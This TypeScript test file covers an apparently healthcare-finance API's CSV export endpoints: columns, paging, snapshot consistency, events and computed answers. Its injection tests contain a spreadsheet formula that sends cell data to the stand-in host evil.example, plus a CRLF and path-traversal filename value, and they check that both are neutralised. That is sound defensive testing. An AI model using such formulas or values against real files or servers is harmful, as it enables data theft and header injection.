import { parse } from 'csv-parse/sync';
import request, { type Response } from 'supertest';
import { LISTS, type ListName } from '#projections';
import { APRIL, PCT, PRACTICE, served, type Served } from './http-served.js';
import { givenAGuarantee, whenThePctGoesIntoDeficit } from './http-story.js';
import { aRow, LIST_PATHS, ListedRows } from './listed-rows.js';

let http: Served;
afterEach(() => http.close());

type Table = readonly Readonly<Record<string, string>>[];
const tableIn = ({ text }: Response): Table => parse(text, { columns: true, record_delimiter: '\r\n' });

const upTo = (last: number) => Array.from({ length: last }, (_, index) => index + 1);
const groups = (count: number) =>
  upTo(count).map((number) => aRow('groups', { group: `G${String(number).padStart(6, '0')}` }));
const codes = (table: Table) => table.map(({ group }) => group);

describe('a list as a CSV file', () => {
  const rows = Object.fromEntries(Object.keys(LISTS).map((list) => [list, [aRow(list as ListName)]]));

  beforeEach(async () => void (http = await served({ views: new ListedRows(rows, 42) })));

  test.each(LIST_PATHS)('%s has a row for each item and its fields as columns', async (path, list) => {
    const answer = await http.ask(`/api/v1/${path}?format=csv`).expect(200);
    const { body } = await http.ask(`/api/v1/${path}?format=json`).expect(200);
    const [header] = answer.text.split('\r\n');
    expect(header).toBe(Object.keys(LISTS[list].columns).join(','));
    const cells = Object.entries(body.items[0]).map(([name, value]) => [
      name,
      Array.isArray(value) ? value.join(' ') : String(value),
    ]);
    expect(tableIn(answer)).toEqual([Object.fromEntries(cells)]);
  });

  test('says what it is, what it is called, and what was counted in it', async () => {
    const { headers } = await http.ask('/api/v1/statements?year=2007-08&commissioner=5X1&format=csv').expect(200);
    expect(headers).toMatchObject({
      'content-type': 'text/csv; charset=utf-8; header=present',
      'content-disposition': 'attachment; filename="statements-2007-08-5X1.csv"',
      'x-ledger-position': '42',
    });
  });

  test('has a header row where no item fits', async () => {
    const { text } = await http.ask('/api/v1/groups?group=none&format=csv').expect(200);
    expect(text).toBe('group,name,commissioner,splitKey,members\r\n');
  });

  test('is given to whoever accepts nothing else, and its name holds no sign that could end it', async () => {
    const answer = await http.ask('/api/v1/groups?commissioner=5X1";x%0d%0ay/..').set('Accept', 'text/csv').expect(200);
    expect(answer.headers['content-disposition']).toBe('attachment; filename="groups-5X1_x_y_...csv"');
  });
});

describe('a long list as a CSV file', () => {
  test('is whole without a limit, however many pages it is read by', async () => {
    http = await served({ views: new ListedRows({ groups: groups(2_500) }, 7) });
    const table = tableIn(await http.ask('/api/v1/groups?format=csv').expect(200));
    expect(codes(table)).toEqual(groups(2_500).map((row) => (row as { group: string }).group));
  });

  test('with a limit is one page, and the link leads to the next as a file', async () => {
    http = await served({ views: new ListedRows({ groups: groups(5) }, 7) });
    const first = await http.ask('/api/v1/groups?format=csv&limit=3').expect(200);
    const [, path] = /^<([^>]+)>/.exec(first.headers['link']!)!;
    const second = await http.ask(path!).expect(200);
    expect([...codes(tableIn(first)), ...codes(tableIn(second))]).toHaveLength(5);
    expect(second.headers['link']).toBeUndefined();
  });

  test('is as it stood at one position, though the views move while it is read', async () => {
    const views = new ListedRows({ groups: groups(2_500) }, 7);
    views.afterPage = (pages) => pages === 2 && views.moveTo(8);
    http = await served({ views });
    const answer = await http.ask('/api/v1/groups?format=csv').expect(200);
    expect(answer.headers['x-ledger-position']).toBe('8');
    expect(new Set(codes(tableIn(answer))).size).toBe(2_500);
  });

  test('is refused, to be tried again, where the views never stand still', async () => {
    const views = new ListedRows({ groups: groups(2_500) }, 7);
    views.afterPage = (pages) => views.moveTo(7 + pages);
    http = await served({ views });
    const answer = await http.ask('/api/v1/groups?format=csv').expect(503);
    expect(answer.body).toMatchObject({ code: 'NOT_YET', detail: expect.stringContaining('moved') });
  });

  describe('of more rows than are held at once', () => {
    const COUNT = 52_500;
    const many = groups(COUNT);

    test('is whole', async () => {
      http = await served({ views: new ListedRows({ groups: many }, 7) });
      const { text } = await http.ask('/api/v1/groups?format=csv').expect(200);
      expect(text.split('\r\n')).toHaveLength(COUNT + 2);
      expect(text).toContain(`\r\nG0${COUNT},`);
    });

    test('is cut off, and not ended, where the views move when it is half sent: no part passes for the whole', async () => {
      const views = new ListedRows({ groups: many }, 7);
      views.afterPage = (pages) => pages === 51 && views.moveTo(8);
      http = await served({ views });
      await expect(http.ask('/api/v1/groups?format=csv')).rejects.toThrow(/aborted|socket hang up/);
      expect((await http.ask('/health/live')).status).toBe(200);
    });
  });
});

const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Ash Road")';

test('no text that others gave is a formula in a file, and no number becomes a text', async () => {
  const rows = [
    aRow('statements', { holder: '-A1', name: FORMULA, outstandingPence: -5 }),
    aRow('statements', { holder: 'B', name: '\u3000＋1', outstandingPence: 5 }),
  ];
  http = await served({ views: new ListedRows({ statements: rows }, 7) });
  const [first, second] = tableIn(await http.ask('/api/v1/statements?format=csv').expect(200));
  expect(first).toMatchObject({ holder: "'-A1", name: `'${FORMULA}`, outstandingPence: '-5' });
  expect(second).toMatchObject({ holder: 'B', name: "'\u3000＋1", outstandingPence: '5' });
});

describe('events as a CSV file', () => {
  beforeEach(async () => {
    http = await served();
    await http
      .record(
        'RegisterOrganisation',
        { ...PCT, name: FORMULA },
        { ...APRIL, 'X-Because': '@SUM(A1)', 'X-Actor': '+44' },
      )
      .expect(201);
    await http.record('RegisterOrganisation', PRACTICE, APRIL).expect(201);
  });

  test('have a row each, with what stands around it, and what happened as JSON', async () => {
    const answer = await http.ask('/api/v1/events?format=csv').expect(200);
    const { body } = await http.ask('/api/v1/events').expect(200);
    const table = tableIn(answer);
    expect(table.map(({ position }) => position)).toEqual(['1', '2']);
    expect(table.map(({ data }) => JSON.parse(data!))).toEqual(body.events.map(({ data }: { data: object }) => data));
    expect(table[0]).toMatchObject({
      type: 'OrganisationRegistered',
      stream: 'organisation-5X1',
      revision: '0',
      recordedAt: '2007-04-02T09:00:00.000Z',
      because: "'@SUM(A1)",
      actor: "'+44",
      unverified: 'true',
    });
    const metadata = body.events.flatMap((event: { metadata: object }) => Object.keys(event.metadata));
    expect(Object.keys(table[0]!)).toEqual(expect.arrayContaining(metadata));
    expect(answer.headers).toMatchObject({
      'content-type': 'text/csv; charset=utf-8; header=present',
      'content-disposition': 'attachment; filename="events.csv"',
      'x-ledger-position': '2',
    });
  });

  test('are all of them without a limit, and a page with one', async () => {
    for (const number of upTo(120)) {
      await http.record('RegisterOrganisation', { ...PRACTICE, code: `B${number}` }, APRIL).expect(201);
    }
    const whole = await http.ask('/api/v1/events?format=csv&after=1').expect(200);
    expect(tableIn(whole).map(({ position }) => Number(position))).toEqual(upTo(122).slice(1));
    const page = await http.ask('/api/v1/events?format=csv&limit=50&type=OrganisationRegistered').expect(200);
    expect(tableIn(page)).toHaveLength(50);
    expect(page.headers['link']).toContain('after=50');
    expect(page.headers['content-disposition']).toContain('filename="events-OrganisationRegistered.csv"');
  });

  test('are refused as the list is', async () => {
    const { body } = await http.ask('/api/v1/events?format=csv&year=2007').expect(400);
    expect(body.errors).toEqual([{ field: 'year', message: expect.any(String) }]);
  });
});

describe('an answer as a CSV file', () => {
  const OF = 'holder=A99001&year=2007-08';
  beforeEach(async () => {
    http = await served();
    await givenAGuarantee(http);
    await whenThePctGoesIntoDeficit(http);
  });

  const rowsAt = async (path: string): Promise<Table> => tableIn(await http.ask(path).expect(200));

  test('to entitlement is one row of its figures', async () => {
    const answer = await http.ask(`/api/v1/entitlement?${OF}&format=csv`).expect(200);
    const { body } = await http.ask(`/api/v1/entitlement?${OF}`).expect(200);
    const [row, ...more] = tableIn(answer);
    expect(more).toEqual([]);
    expect(row).toMatchObject({ holder: 'A99001', entitlementPence: '2422000', basis: 'GUARANTEE', offeredPence: '' });
    const plain = Object.entries(body).filter(([, value]) => !Array.isArray(value));
    expect(row).toMatchObject(Object.fromEntries(plain.map(([name, value]) => [name, String(value ?? '')])));
    expect(answer.headers['content-disposition']).toBe('attachment; filename="entitlement-A99001-2007-08.csv"');
    expect(answer.headers['x-ledger-position']).toBe('12');
  });

  test('to exposure is a row for each whom it owes', async () => {
    const rows = await rowsAt('/api/v1/exposure?commissioner=5X1&year=2007-08&format=csv');
    expect(rows).toMatchObject([
      { commissioner: '5X1', holder: 'A99001', entitlementPence: '2422000', affordablePence: '', position: '12' },
    ]);
  });

  test('to roll-up is one row with the sums by basis', async () => {
    const answer = await http.ask('/api/v1/roll-up?of=ENGLAND&year=2007-08&format=csv').expect(200);
    expect(answer.headers['content-disposition']).toContain('"roll-up-ENGLAND-2007-08.csv"');
    expect(tableIn(answer)).toMatchObject([
      { of: 'ENGLAND', entitledPence: '2422000', guaranteePence: '2422000', rulingPence: '0', practices: '1' },
    ]);
  });

  test('to bridge is a row for each event that moved the figure', async () => {
    const rows = await rowsAt(`/api/v1/bridge?${OF}&from=2007-11-01T00:00:00Z&to=2007-11-30T23:59:59Z&format=csv`);
    expect(rows).toMatchObject([
      { holder: 'A99001', event: 'ActualsRecorded', position: '9', openingPence: expect.any(String) },
    ]);
    const [{ openingPence, deltaPence, closingPence }] = rows as [Record<string, string>];
    expect(Number(openingPence) + Number(deltaPence)).toBe(Number(closingPence));
  });

  test('to what-if is one row', async () => {
    const asked = { holder: 'A99001', year: '2007-08', suppose: [{ omit: 'deficit' }] };
    const answer = await request(http.server.url).post('/api/v1/what-if?format=csv').send(asked).expect(200);
    expect(tableIn(answer)).toMatchObject([{ holder: 'A99001', factPence: '2422000', differencePence: '0' }]);
    const refused = await request(http.server.url).post('/api/v1/what-if?year=1').send(asked).expect(400);
    expect(refused.body.errors).toEqual([{ field: 'year', message: expect.stringContaining('format') }]);
  });

  test('has no place for the derivation, and says so', async () => {
    const { body } = await http.ask(`/api/v1/entitlement?${OF}&explain=true&format=csv`).expect(400);
    expect(body.errors).toEqual([{ field: 'explain', message: expect.stringContaining('CSV') }]);
  });

  test('that is refused is a problem all the same', async () => {
    const { body } = await http.ask('/api/v1/entitlement?holder=Z1&year=2007-08&format=csv').expect(404);
    expect(body.code).toBe('UNKNOWN_ORGANISATION');
  });
});
